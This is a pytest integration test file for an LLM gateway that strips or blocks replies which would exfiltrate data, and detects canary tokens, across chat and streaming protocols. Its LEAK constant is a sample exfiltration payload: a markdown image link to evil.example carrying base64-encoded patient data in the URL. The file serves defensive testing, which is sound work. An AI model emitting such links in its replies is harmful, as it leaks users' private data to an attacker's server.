"""What a model's reply would carry away, and canaries: in replies of every kind, and in calls."""

import base64
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from curtilage.app.foundation import CANARIES
from curtilage.core.authority import Authority
from curtilage.gateway.canaries.service import CanaryService
from tests.fakes.provider import (
    chat_delta,
    chat_reply,
    message_reply,
    message_stream,
    stream,
    whole,
)
from tests.fakes.pseudonyms import FixedPseudonyms
from tests.integration.service import CREDENTIAL, RunningService

SAID = base64.b64encode(b"the patient said that she moves to Lyon").decode()
LEAK = f"Done. ![chart](https://evil.example/p.png?x={SAID}) Bye."
CUT = "Done. ![chart](https://[…]) Bye."
TRUSTED = LEAK.replace("evil.example", "a.charts.example")
POLICY = """
format = 1
default = "token"
[purposes.assist]
[hostile]
exfiltration = "{action}"
allowed_hosts = ["charts.example"]
"""


def a_service(folder: Path, action: str) -> Iterator[RunningService]:
    policies = folder / "policies"
    policies.mkdir()
    (policies / "mine.toml").write_text(POLICY.format(action=action))
    with pytest.MonkeyPatch.context() as patched:
        patched.setenv("OPENAI_API_KEY", CREDENTIAL)
        patched.setenv("ANTHROPIC_API_KEY", CREDENTIAL)
        service = RunningService(folder, **{"policy.dir": policies, "gateway.policy": "mine"})
        service.start()
        yield service
        service.stop()


@pytest.fixture(scope="module")
def stripping(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
    yield from a_service(tmp_path_factory.mktemp("strip"), "strip")


@pytest.fixture(scope="module")
def blocking(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
    yield from a_service(tmp_path_factory.mktemp("block"), "block")


def ask(service: RunningService, text: str = "What is new?", **fields: Any) -> httpx.Response:
    messages = [{"role": "user", "content": text}]
    with service.client(service.key()) as client:
        return client.post(
            "/v1/chat/completions", json={"model": "gpt-4o", "messages": messages, **fields}
        )


def ask_claude(service: RunningService, **fields: Any) -> httpx.Response:
    body = {
        "model": "claude-sonnet-4-5",
        "max_tokens": 50,
        "messages": [{"role": "user", "content": "Hi"}],
    }
    with service.client(service.key()) as client:
        return client.post("/v1/messages", json={**body, **fields})


def outcome(service: RunningService, reply: httpx.Response) -> dict[str, Any]:
    events = service.events(reply.headers["x-curtilage-request-id"])
    return dict(events[-1].facts)


def in_pieces(text: str, size: int) -> list[bytes]:
    pieces = [text[start : start + size] for start in range(0, len(text), size)]
    return [
        *(chat_delta({"content": piece}) for piece in pieces),
        chat_delta({}, finish="stop"),
        b"data: [DONE]\n\n",
    ]


def streamed(reply: httpx.Response) -> str:
    """What a stream of chat says."""
    lines = [line[6:] for line in reply.text.splitlines() if line.startswith("data: {")]
    deltas = [httpx.Response(200, text=line).json() for line in lines]
    return "".join(
        choice["delta"].get("content") or ""
        for delta in deltas
        for choice in delta.get("choices", ())
    )


def test_what_would_carry_data_away_is_cut_out_of_a_reply(stripping: RunningService) -> None:
    stripping.provider.script = whole(chat_reply(LEAK))
    reply = ask(stripping)
    assert reply.json()["choices"][0]["message"]["content"] == CUT
    assert reply.headers["x-curtilage-hostile-reply"] == "EXFILTRATION=1"
    facts = outcome(stripping, reply)
    assert facts["hostile_reply"] == {"EXFILTRATION": 1}
    assert facts["hostile_reply_action"] == "strip"


@pytest.mark.parametrize("size", [1, 7, 40, 1000])
def test_it_is_cut_out_of_a_stream_however_that_comes(stripping: RunningService, size: int) -> None:
    stripping.provider.script = stream(*in_pieces(LEAK, size))
    reply = ask(stripping, stream=True)
    assert streamed(reply) == CUT
    assert outcome(stripping, reply)["hostile_reply_action"] == "strip"


def test_in_every_protocol(stripping: RunningService) -> None:
    stripping.provider.script = whole(message_reply(LEAK))
    assert ask_claude(stripping).json()["content"][0]["text"] == CUT
    stripping.provider.script = stream(*message_stream(LEAK[:40], LEAK[40:]))
    told = ask_claude(stripping, stream=True)
    assert SAID not in told.text and "[…]" in told.text and "Bye." in told.text


def test_hosts_that_are_trusted_may_be_sent_data(stripping: RunningService) -> None:
    stripping.provider.script = whole(chat_reply(TRUSTED))
    reply = ask(stripping)
    assert reply.json()["choices"][0]["message"]["content"] == TRUSTED
    assert "x-curtilage-hostile-reply" not in reply.headers
    assert "hostile_reply" not in outcome(stripping, reply)


def test_a_trusted_host_is_trusted_in_what_a_document_says_too(stripping: RunningService) -> None:
    stripping.provider.script = whole(chat_reply("Done."))
    told = ask(stripping, f"Read this. {TRUSTED}")
    assert "x-curtilage-hostile" not in told.headers
    assert "EXFILTRATION" in ask(stripping, f"Read this. {LEAK}").headers["x-curtilage-hostile"]


def test_a_reply_that_is_blocked_does_not_come(blocking: RunningService) -> None:
    blocking.provider.script = whole(chat_reply(LEAK))
    reply = ask(blocking)
    assert reply.status_code == 403 and SAID not in reply.text
    assert "EXFILTRATION" in reply.text
    facts = outcome(blocking, reply)
    assert facts["reason"] == "gateway.hostile-reply"
    assert facts["hostile_reply_action"] == "block"


def test_a_stream_ends_where_it_is_blocked(blocking: RunningService) -> None:
    blocking.provider.script = stream(*in_pieces(LEAK, 9))
    reply = ask(blocking, stream=True)
    assert "Done. ![chart](https://".startswith(streamed(reply))
    assert "EXFILTRATION" in reply.text and SAID[:9] not in reply.text
    assert outcome(blocking, reply)["reason"] == "gateway.hostile-reply"


def test_canaries_are_looked_for_from_when_the_first_was_minted(
    stripping: RunningService,
) -> None:
    service = stripping
    changes = service.control.changes
    canaries = CanaryService(
        changes.database,
        Authority(),
        FixedPseudonyms(),
        lambda: changes.vault.secret(CANARIES),
        changes.clock,
        changes.ids,
    )
    canary = service.ask(canaries.mint(service.control.operator, "crm-notes"))
    service.provider.script = whole(chat_reply(f"The note says {canary}."))
    received = len(service.provider.received)

    refused = ask(service, f"Summarise: {canary}")
    assert refused.status_code == 403 and canary not in refused.text
    assert len(service.provider.received) == received, "it did not leave"

    blocked = ask(service)
    assert blocked.status_code == 403 and canary not in blocked.text
    assert outcome(service, blocked)["hostile_reply"] == {"CANARY": 1}

    service.provider.script = stream(*in_pieces(f"The note says {canary}.", 5))
    told = ask(service, stream=True)
    assert "The note says ".startswith(streamed(told)) and "CANARY" in told.text
    service.provider.script = whole(chat_reply(f"It says {canary[::-1]}."))
    assert ask(service).status_code == 403
    for raw in (service.folder / "data" / "ledger").rglob("*"):
        assert not raw.is_file() or canary.encode() not in raw.read_bytes()
